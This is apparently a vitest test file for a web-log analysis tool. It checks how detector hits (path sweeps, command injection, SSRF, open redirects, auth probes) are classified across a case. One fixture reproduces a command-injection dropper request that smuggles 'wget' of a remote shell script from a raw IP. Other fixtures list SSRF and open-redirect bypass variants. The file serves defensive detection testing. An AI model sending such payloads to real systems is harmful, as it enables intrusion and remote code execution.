import { describe, expect, it } from 'vitest'
import { finishCase } from '../../src/jobs/finish-case.ts'
import { holdingsOf } from '../engine/detectors/holdings.ts'
import { marks, marksIn, rules } from './marks-in.ts'

describe('the whole-case pass', () => {
  const sweep = Array.from({ length: 14 }, (_, i) => ({
    at: i,
    request: `GET /${String.fromCharCode(97 + i)}-old/`,
    status: 404,
  }))

  it('adds detectors to the rules of exactly the rows they speak of', async () => {
    const rows = await marks([
      { request: 'GET /', at: -5, status: 200 },
      ...sweep.map((row, i) => (i === 3 ? { ...row, hits: ['scan/example'] } : row)),
    ])
    expect(rows[0]).toBe('')
    expect(rows[1]).toBe('reach/path-sweep: refused, status-refused')
    expect(rows[4]).toBe('reach/path-sweep scan/example: refused, status-refused')
    expect(rows.filter((row) => row.includes('reach/path-sweep'))).toHaveLength(14)
  })
  it('counts over files, whatever their order', async () => {
    const even = sweep.filter((_, i) => i % 2 === 0).reverse()
    const odd = sweep.filter((_, i) => i % 2 === 1)
    const rows = await marks(even, odd)
    expect(rows.filter((row) => row.includes('reach/path-sweep'))).toHaveLength(14)
  })
  it('gives the dropper of an nginx error log as failed, and a scanner’s 404s as refused', async () => {
    const rows = await marks([
      {
        source: '176.65.148.10',
        request:
          'GET /cgi-bin/mainfunction.cgi/apmcfgupload?session=x;wget${IFS}http://94.26.90.205/wget.sh',
        message:
          'open() "/usr/share/nginx/html/cgi-bin/mainfunction.cgi/apmcfgupload" failed (2: No such file or directory)',
        hits: ['cmdi/example', 'cmdi/fetch'],
      },
      {
        source: '198.51.100.3',
        request: 'GET /phpMyAdmin/scripts/setup.php',
        status: 404,
        hits: ['scan/example'],
      },
    ])
    expect(rows).toEqual([
      'cmdi/example cmdi/fetch: failed, error-no-such-file',
      'scan/example: refused, status-refused',
    ])
  })
  it('does not tell of who belongs here that they were turned away', async () => {
    const away = { request: 'GET /private/', status: 401, hits: ['auth/example', 'scan/example'] }
    const told = async (...more: Parameters<typeof marks>[0]): Promise<boolean> =>
      (await marks([away], more))[0]?.includes('auth/example') ?? false
    expect(await told()).toBe(true)
    expect(await told({ request: 'GET /none', status: 404 })).toBe(true)
    expect(await told({ request: 'GET /', status: 200, source: '203.0.113.99' })).toBe(true)
    // let in later, a crawler, a program that polls
    expect(await told({ request: 'GET /private/', status: 200 })).toBe(false)
    expect(await marks([{ ...away, agent: 'Googlebot/2.1' }])).toEqual([
      'scan/example: refused, status-refused',
    ])
    expect(await told(...Array.from({ length: 30 }, () => away))).toBe(false)
  })
  describe('of a site with pages of its own', () => {
    const assets = Array.from({ length: 6 }, (_, i) => ({
      request: `GET /style${i}.css`,
      status: 200,
      referrer: 'https://www.site.example/page',
    }))
    const told = async (row: Parameters<typeof marks>[0][number], others = assets) =>
      (await marks([row], others))[0] !== ''

    it.each([
      ['/login?next=https://evil.example/', true],
      ['/login?next=https://site.example/a', false],
      ['/login?next=https%253A%252F%252Fwww.site.example%252Fa', false],
      ['/login?next=aHR0cHM6Ly93d3cuc2l0ZS5leGFtcGxlL2luZGV4LnBocA', false],
      ['/login?next=https://site.example@evil.example/', true],
      ['/login?next=https:\\\\site.example/', true],
      ['/login?next=https:/site.example/&u=https://site.example/', true],
      ['/a?u=https://site.example/&v=https://evil.example/', true],
      ['/a?u=http://localhost:8080/', true],
    ])('tells of URLs to others, not of those to itself: %s', async (target, expected) => {
      const row = { request: `GET ${target}`, status: 302, hits: ['ssrf/example'] }
      expect(await told(row)).toBe(expected)
    })
    it('does not tell a machine that it asks itself', async () => {
      const row = { request: 'GET /a?u=http://localhost/', status: 200, hits: ['ssrf/example'] }
      expect(await told({ ...row, source: '::1' })).toBe(false)
      expect(await told({ ...row, source: '127.0.0.1' })).toBe(false)
      expect(await told({ ...row, source: '198.51.100.1' })).toBe(true)
      const both = await marks([
        { ...row, source: '127.0.0.1' },
        { ...row, source: '198.51.100.1' },
        { ...row, source: '127.0.0.1' },
      ])
      expect(both.map((mark) => mark === '')).toEqual([true, false, true])
    })
    it('takes a virtual host for the site when many come for it, not when one visitor says so', async () => {
      const row = {
        request: 'GET /a?u=http://198.51.100.66/x',
        status: 200,
        vhost: '198.51.100.66',
        hits: ['ssrf/example'],
      }
      const visitors = (n: number, vhost: string) =>
        Array.from({ length: n }, (_, i) => ({
          request: 'GET /',
          status: 200,
          vhost,
          source: `203.0.113.${i}`,
        }))
      const first = async (...rows: Parameters<typeof marks>[0]): Promise<boolean> =>
        (await marks([row, ...rows]))[0] !== ''
      expect(await first(...visitors(20, 'site.example'))).toBe(true)
      expect(await first(...visitors(20, '198.51.100.66'))).toBe(false)
      expect(await first()).toBe(true)
    })
    it('knows the host that a server in front puts into every target', async () => {
      const row = {
        request: 'GET http://inner.example/?u=http://inner.example/a',
        status: 200,
        hits: ['ssrf/example'],
      }
      const fronted = (n: number) =>
        Array.from({ length: n }, (_, i) => ({
          request: `GET http://inner.example/${i}`,
          status: 200,
          referrer: '',
        }))
      expect(await told(row, fronted(20))).toBe(false)
      expect(await told(row, fronted(8))).toBe(true)
      expect(await told(row, [...fronted(20), ...assets, ...assets, ...assets])).toBe(false)
      const plain = Array.from({ length: 30 }, (_, i) => ({
        request: `GET /${i}`,
        status: 200,
        referrer: '',
      }))
      expect(await told(row, [...fronted(20), ...plain])).toBe(true)
    })
    it('does not call it a search what its own pages link to and the server has', async () => {
      const row = {
        request: 'GET /tools/',
        status: 200,
        referrer: 'https://www.site.example/start',
        hits: ['files/example'],
      }
      expect(await told(row)).toBe(false)
      expect(await told({ ...row, status: 304 })).toBe(false)
      expect(await told({ ...row, status: 404 })).toBe(true)
      expect(await told({ ...row, status: 0 })).toBe(true)
      expect(await told({ ...row, referrer: 'https://other.example/' })).toBe(true)
      expect(await told({ ...row, referrer: '', source: '127.0.0.1' })).toBe(false)
      expect(await told({ ...row, referrer: '', source: '10.0.0.1' })).toBe(true)
      expect(await told({ ...row, hits: ['sqli/example'] })).toBe(true)
    })
  })
  describe('of what leads elsewhere', () => {
    const here = {
      request: 'GET /',
      status: 200,
      vhost: 'app.site.example',
      source: '203.0.113.200',
    }
    const told = async (
      target: string,
      status = 302,
      others: Parameters<typeof marks>[0] = [],
    ): Promise<boolean> => {
      const visitors = Array.from({ length: 8 }, (_, i) => ({ ...here, source: `10.0.0.${i}` }))
      const row = { ...here, request: `GET ${target}`, status, hits: ['redirect/example'] }
      return (await marks([row, ...visitors, ...others]))[0]?.includes('redirect/example') ?? false
    }
    const url = (text: string): string => encodeURIComponent(text)
    const saml = 'fVLLasMwELznK4LujvxOKmJDIW0xpEnblB56KRt7nQhsyZXW0P59%2BUggzSE6SbMzw8yipYW6'

    it.each([
      `client_id=a&response_type=code&redirect_uri=${url('https://shop.example/back?a=1')}`,
      `client_id=a&scope=read&state=b&redirect_uri=${url('http://127.0.0.1:39781/back')}`,
      `client_id=a&scope=read&redirect_uri=${url('http://[::1]:8000/')}&iss=${url('https://id.example')}`,
      `SAMLRequest=${saml}&RelayState=${url('https://wiki.example/a')}&SigAlg=${url('http://www.w3.org/a#b')}`,
      `spentityid=${url('https://wiki.example/sp')}&RelayState=${url('https://wiki.example/a')}`,
      `entityID=${url('https://sp.example/x')}&return=${url('https://sp.example/y?z=1')}`,
      `amount=9.90&success_url=${url('https://shop.example/ok')}&cancel_url=${url('https://shop.example/no')}`,
      `next=${url('https://wiki.site.example/a')}`,
      `next=${url('https://site.example/a')}`,
    ])('does not tell of a way back: %s', async (query) => {
      expect(await told(`/a?${query}`)).toBe(false)
    })
    it.each([
      [
        'of the server that turns it away',
        `client_id=a&state=b&redirect_uri=${url('https://a.example/')}`,
        400,
      ],
      [
        'of another parameter beside it',
        `client_id=a&state=b&redirect_uri=${url('https://a.example/')}&url=${url('https://b.example/')}`,
      ],
      [
        'of another parameter with a client',
        `client_id=a&response_type=code&url=${url('https://a.example/')}`,
      ],
      ['without a client', `response_type=code&redirect_uri=${url('https://a.example/')}`],
      ['without more than a client', `client_id=a&redirect_uri=${url('https://a.example/')}`],
      [
        'of a name before the host',
        `client_id=a&state=b&redirect_uri=${url('https://a.example@b.example/')}`,
      ],
      ['of an address', `client_id=a&state=b&redirect_uri=${url('http://198.51.100.7/')}`],
      ['of an inner name', `client_id=a&state=b&redirect_uri=${url('http://kubernetes.default/')}`],
      [
        'of a backslash',
        `client_id=a&state=b&redirect_uri=${url('https://a.example\\@b.example')}`,
      ],
      ['encoded twice', `client_id=a&state=b&redirect_uri=${url(url('https://a.example/'))}`],
      ['without a scheme', 'client_id=a&state=b&redirect_uri=//a.example/'],
      ['behind a semicolon', 'client_id=a&state=b;redirect_uri=//a.example/'],
      [
        'twice',
        `client_id=a&state=b&redirect_uri=${url('https://a.example/')}&redirect_uri=//b.example`,
      ],
      ['of a message that is none', `SAMLRequest=1&RelayState=${url('https://a.example/')}`],
      [
        'of two hosts',
        `entityID=${url('https://sp.example/x')}&return=${url('https://a.example/')}`,
      ],
      ['of a price with one way out', `amount=9&success_url=${url('https://shop.example/ok')}`],
      [
        'of ways out to two hosts',
        `amount=9&success_url=${url('https://shop.example/ok')}&cancel_url=${url('https://a.example/')}`,
      ],
      [
        'of ways out without a price',
        `success_url=${url('https://shop.example/ok')}&cancel_url=${url('https://shop.example/')}`,
      ],
      ['of a neighbour by name only', `next=${url('https://notsite.example/a')}`],
    ])('tells %s', async (_, query, status = 302) => {
      expect(await told(`/a?${query}`, status)).toBe(true)
    })
    it('knows which pages are about URLs', async () => {
      const image = (i: number) =>
        `/image?url=${url(`https://pictures.example/${i}.png`)}&w=64&q=75`
      const others = (n: number, make = image) =>
        Array.from({ length: n }, (_, i) => ({
          ...here,
          source: `198.51.100.${i}`,
          request: `GET ${make(i)}`,
          hits: ['redirect/example'],
        }))
      expect(await told(image(99), 200, others(20))).toBe(false)
      expect(await told(image(99), 200, others(8))).toBe(true)
      expect(await told(image(99), 302, others(20))).toBe(true)
      expect(
        await told(
          image(99),
          200,
          others(20).map((row) => ({ ...row, source: here.source })),
        ),
      ).toBe(true)
      const plain = Array.from({ length: 50 }, () => ({ ...here, request: 'GET /image?id=5' }))
      expect(await told(image(99), 200, [...others(20), ...plain])).toBe(true)
      const jump = (i: number) => `/jump?url=${url(`https://shop${i}.example/`)}`
      expect(await told(jump(99), 200, others(20, jump))).toBe(true)
    })
  })
  it('leaves everything as it was when cancelled', async () => {
    const holdings = holdingsOf([sweep])
    let asked = 0
    await finishCase(holdings, { rules, cancelled: () => ++asked > 3 })
    expect(asked).toBeGreaterThan(3)
    expect(holdings.segments[0]?.blocks[0]?.marks).toBeUndefined()
    expect(holdings.segments[0]?.markSets).toEqual([])
  })
  it('does without anything to look at, and with rows that have no time, source or target', async () => {
    expect(await marks()).toEqual([])
    expect(await marks([])).toEqual([])
    expect(await marks([{ source: '', noTime: true, hits: ['sqli/example'], kind: 1 }])).toEqual([
      'sqli/example: unclear, no-status',
    ])
  })
  it('gives the same again when it runs again', async () => {
    const holdings = holdingsOf([sweep])
    await finishCase(holdings, { rules })
    const once = marksIn(holdings)
    await finishCase(holdings, { rules })
    expect(marksIn(holdings)).toEqual(once)
  })
  it('lets others work between blocks', async () => {
    const holdings = holdingsOf([sweep], 2)
    let yields = 0
    await finishCase(holdings, {
      rules,
      yield: () => {
        yields++
        return Promise.resolve()
      },
    })
    expect(yields).toBeGreaterThan(20)
  })
})
